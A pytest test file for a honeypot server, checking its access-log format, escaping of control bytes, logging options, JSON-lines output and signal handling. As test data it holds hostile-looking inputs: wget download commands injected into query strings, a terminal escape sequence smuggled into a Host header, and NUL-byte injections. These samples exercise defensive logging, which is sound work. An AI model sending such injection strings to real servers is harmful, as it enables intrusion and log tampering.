"""test_http_logs.py - access_log in WOWHoneypot's exact format (host rules, %20/%22, base64 of the
exact bytes, no raw control bytes), timezone / separator / masking options, the JSON-lines log,
SIGHUP (log rotation and rules reload) and SIGTERM (exit 0, nothing answered is lost)."""
import base64
import calendar
import json
import os
import re
import signal
import time

from conftest import (ACCESS_RE, Conn, build_request, copy_art, event_with_payload, events_where,
                      read_lines, request, start_with, tls_client_hello, wait_event, wait_log,
                      wait_until)

STRICT_RE = re.compile(r'^\[\d{4}-\d\d-\d\d \d\d:\d\d:\d\d\+0900\] 127\.0\.0\.1 (\S+) "(.*)" '
                       r'(\d{3}) (\d+|False) ([A-Za-z0-9+/]*={0,2})$')


def wait_lines(path, n):
    return wait_until(lambda: (lambda ls: ls if len(ls) >= n else None)(read_lines(path)),
                      what=f"{n} line(s) in {path}")


def test_access_log_format(hanipo):
    p = hanipo.port
    cases = [
        # (raw request, expected host field, expected request line, status, rule)
        (build_request("GET", "/robots.txt", host="example.com"),
         f"example.com:{p}", "GET /robots.txt HTTP/1.1", 200, "1006"),
        (build_request("GET", "/wp-login.php", host="example.com:8888"),
         "example.com:8888", "GET /wp-login.php HTTP/1.1", 200, "1011"),
        (build_request("GET", "/nohost", host=None, version="HTTP/1.0"),
         f"blank:{p}", "GET /nohost HTTP/1.0", 200, "False"),
        (build_request("GET", "/spacehost", host="a b"),
         f"a:{p}", "GET /spacehost HTTP/1.1", 200, "False"),
        (build_request("GET", "/v6", host="[::1]"),
         "[::1]", "GET /v6 HTTP/1.1", 200, "False"),
        (b'GET /a b"c HTTP/1.1\r\nHost: h\r\n\r\n',
         f"h:{p}", "GET /a%20b%22c HTTP/1.1", 200, "False"),
        (build_request("POST", "/login", [("Content-Type", "x")], "user=a&pw=b"),
         f"127.0.0.1:{p}", "POST /login HTTP/1.1", 200, "1002"),
        (b"GET /\n\n", f"blank:{p}", "GET /", 400, "False"),
    ]
    for raw, *_ in cases:
        request(hanipo.port, raw)
    lines = wait_lines(hanipo.access_log, len(cases))
    assert len(lines) == len(cases)
    for line, (raw, host, reqline, status, rule) in zip(lines, cases):
        m = STRICT_RE.match(line)
        assert m, line
        assert m.group(1) == host
        assert m.group(2) == reqline
        assert m.group(3) == str(status)
        assert m.group(4) == rule
        assert base64.b64decode(m.group(5), validate=True) == raw
    # The time is JST, close to now.
    ts = re.match(r"^\[(.{19})", lines[0]).group(1)
    t = calendar.timegm(time.strptime(ts, "%Y-%m-%d %H:%M:%S")) - 9 * 3600
    assert abs(t - time.time()) < 120


def test_control_bytes_never_reach_the_log_raw(hanipo):
    raws = [b"GET /\x1b[31mred\x1b[0m HTTP/1.1\r\nHost: x\r\n\r\n",
            b"GET /ok HTTP/1.1\r\nHost: \x1b]0;pwned\x07evil\r\n\r\n",
            b"GET /back\\slash\x7f HTTP/1.1\r\nHost: x\r\n\r\n"]
    for raw in raws:
        request(hanipo.port, raw)
    lines = wait_lines(hanipo.access_log, 3)
    data = hanipo.access_log.read_bytes()
    assert not any(b < 0x20 and b != 0x0a for b in data), "raw control byte in access_log"
    assert b"\x7f" not in data
    assert r'"GET /\x1b[31mred\x1b[0m HTTP/1.1" 400 False' in lines[0]
    assert r" \x1b]0;pwned\x07evil:" in lines[1]
    assert r'"GET /back\x5cslash\x7f HTTP/1.1" 400' in lines[2]
    for line, raw in zip(lines, raws):
        assert ACCESS_RE.match(line), line
        assert base64.b64decode(line.rsplit(" ", 1)[1]) == raw


def test_non_http_payload_in_access_log(hanipo):
    hello = tls_client_hello()
    with Conn(hanipo.port) as c:
        c.send(hello)
        assert c.response().status == 400
    line = wait_lines(hanipo.access_log, 1)[0]
    m = ACCESS_RE.match(line)
    assert m, line
    assert m.group(6) == "400"
    assert hello.startswith(base64.b64decode(m.group(8)))


def test_timezone_utc(make_hanipo):
    h = make_hanipo("log.timezone=UTC")
    request(h.port, build_request("GET", "/tz"))
    line = wait_lines(h.access_log, 1)[0]
    m = ACCESS_RE.match(line)
    assert m and m.group(2) == "+0000", line
    t = calendar.timegm(time.strptime(m.group(1), "%Y-%m-%d %H:%M:%S"))
    assert abs(t - time.time()) < 120


def test_timezone_bad_value_rejected(make_hanipo):
    h = make_hanipo("log.timezone=JST", start=False)
    r = h.cli("run", check=False)
    assert r.returncode == 2
    assert "timezone" in r.stderr


def test_separator(make_hanipo):
    h = make_hanipo('log.separator="|"')
    raw = build_request("GET", "/sep", host="example.com")
    request(h.port, raw)
    line = wait_lines(h.access_log, 1)[0]
    m = re.match(r'^\[\d{4}-\d\d-\d\d \d\d:\d\d:\d\d\+0900\]\|127\.0\.0\.1\|example\.com:(\d+)\|'
                 r'"GET /sep HTTP/1\.1"\|200\|False\|(\S+)$', line)
    assert m, line
    assert base64.b64decode(m.group(2)) == raw


def test_ip_masking(make_hanipo):
    h = make_hanipo("log.ip_masking=true")
    request(h.port, build_request("GET", "/masked"))
    line = wait_lines(h.access_log, 1)[0]
    m = ACCESS_RE.match(line)
    assert m and m.group(3) == "0.0.0.0", line
    assert "127.0.0.1 " not in line
    # The store itself keeps the address (masking is a log-file option).
    assert wait_event(h, "request")[0]["src_ip"] == "127.0.0.1"


def test_jsonl(make_hanipo):
    h = make_hanipo(start=False)
    path = h.dir / "events.jsonl"
    h.overrides.append(f"log.jsonl={path}")
    h.start()
    raw = build_request("GET", "/jsonl", [("User-Agent", "j")])
    request(h.port, raw)
    ev = event_with_payload(h, raw)
    wait_until(lambda: any(json.loads(x)["id"] == ev["id"] for x in read_lines(path)),
               what="request in events.jsonl")
    objs = [json.loads(x) for x in read_lines(path)]
    assert all(isinstance(o, dict) for o in objs)
    kinds = [o["kind"] for o in objs]
    assert "connect" in kinds and "request" in kinds
    req = [o for o in objs if o["kind"] == "request"]
    assert len(req) == 1
    o = req[0]
    assert o["id"] == ev["id"]
    assert o["fields"]["uri"] == "/jsonl"
    assert o["src_ip"] == "127.0.0.1" and o["proto"] == "http"
    assert base64.b64decode(o["payload"]) == raw
    assert o["payload_len"] == len(raw)
    # Every stored event reaches the file (the sink follows the commit), once.
    stored = {e["id"] for e in h.events()}
    wait_until(lambda: stored <= {json.loads(x)["id"] for x in read_lines(path)},
               what="every stored event in events.jsonl")
    ids = [json.loads(x)["id"] for x in read_lines(path)]
    assert len(ids) == len(set(ids))


def hup(h):
    n = h.log().count("SIGHUP: rules reloaded")
    h.proc.send_signal(signal.SIGHUP)
    wait_log(h, "SIGHUP: rules reloaded", count=n + 1)


def test_sighup_reopens_logs(hanipo):
    h = hanipo
    request(h.port, build_request("GET", "/before?c=wget+http://192.0.2.1/a"))
    wait_lines(h.access_log, 1)
    wait_lines(h.hunting_log, 1)
    rotated, hrot = h.dir / "access_log.1", h.dir / "hunting.log.1"
    os.rename(h.access_log, rotated)
    os.rename(h.hunting_log, hrot)
    hup(h)
    request(h.port, build_request("GET", "/after?c=wget+http://192.0.2.2/b"))
    new = wait_lines(h.access_log, 1)
    assert len(new) == 1 and '"GET /after?c=wget+http://192.0.2.2/b HTTP/1.1"' in new[0]
    old = read_lines(rotated)
    assert len(old) == 1 and "/before" in old[0]
    assert wait_lines(h.hunting_log, 1)[0].endswith(" 127.0.0.1 http://192.0.2.2/b")
    assert [x.rsplit(" ", 1)[1] for x in read_lines(hrot)] == ["http://192.0.2.1/a"]


RELOAD_XML = """<?xml version='1.0' encoding='utf-8'?>
<mrrs version='local'>
  <mrr>
    <meta>
      <mrrid>10500</mrrid>
      <enable>True</enable>
      <note>sighup</note>
    </meta>
    <trigger>
      <uri>^/sighup-test$</uri>
    </trigger>
    <response>
      <status>200</status>
      <body><![CDATA[reloaded]]></body>
    </response>
  </mrr>
</mrrs>
"""


def test_sighup_reloads_rules_and_survives_broken_ones(make_hanipo, tmp_path):
    art = copy_art(tmp_path / "art")
    h = start_with(make_hanipo, rules=art)
    assert request(h.port, build_request("GET", "/sighup-test")).body != b"reloaded"
    (art / "mrrules_local.xml").write_text(RELOAD_XML)
    hup(h)
    r = request(h.port, build_request("GET", "/sighup-test"))
    assert r.body == b"reloaded"
    assert wait_event(h, "request", lambda e: e["fields"].get("rule") == 10500)
    # A broken rules file: the old rules stay, the process keeps running.
    (art / "mrrules_local.xml").write_text(RELOAD_XML.replace("</mrrs>", "<mrr>"))
    hup(h)
    assert "reload failed, keeping the previous rules" in h.log()
    assert "mrrules_local.xml:" in h.log()
    assert h.proc.poll() is None
    assert request(h.port, build_request("GET", "/sighup-test")).body == b"reloaded"
    assert request(h.port, build_request("GET", "/robots.txt")).status == 200


def test_sigterm_exits_0_and_keeps_every_answered_request(make_hanipo):
    h = make_hanipo()
    raws = []
    idle = Conn(h.port)                 # open, silent: closed by the shutdown
    with Conn(h.port) as c:
        for i in range(10):
            raw = build_request("GET", f"/keepalive/{i}")
            c.send(raw)
            c.response()
            raws.append(raw)
    for i in range(20):
        raw = build_request("POST", f"/single/{i}", [("Connection", "close")], f"n={i}")
        request(h.port, raw)
        raws.append(raw)
    rc = h.stop(signal.SIGTERM)
    idle.close()
    assert rc == 0
    stored = {bytes(e["payload"]) for e in h.events("request")}
    assert all(raw in stored for raw in raws)
    assert len(events_where(h, "request")) == len(raws)
    assert events_where(h, "close", lambda e: e["fields"]["reason"] == "shutdown")
    assert len(read_lines(h.access_log)) == len(raws)


def test_nul_byte_is_escaped_not_cut_in_access_log(hanipo):
    raws = [b"GET /a\x00hidden-part HTTP/1.1\r\nHost: x\r\n\r\n",
            b"GET /nulhost HTTP/1.1\r\nHost: evil\x00.example\r\n\r\n"]
    for raw in raws:
        request(hanipo.port, raw)
    lines = wait_lines(hanipo.access_log, 2)
    assert b"\x00" not in hanipo.access_log.read_bytes()
    assert r'"GET /a\x00hidden-part HTTP/1.1" 400' in lines[0]
    assert r" evil\x00.example:" in lines[1]


def test_access_log_off(make_hanipo):
    h = make_hanipo("log.access_log=", "log.hunting_log=")
    request(h.port, build_request("GET", "/?c=wget+http://192.0.2.1/x"))
    wait_event(h, "download_url")
    time.sleep(0.2)
    assert not h.access_log.exists() and not h.hunting_log.exists()
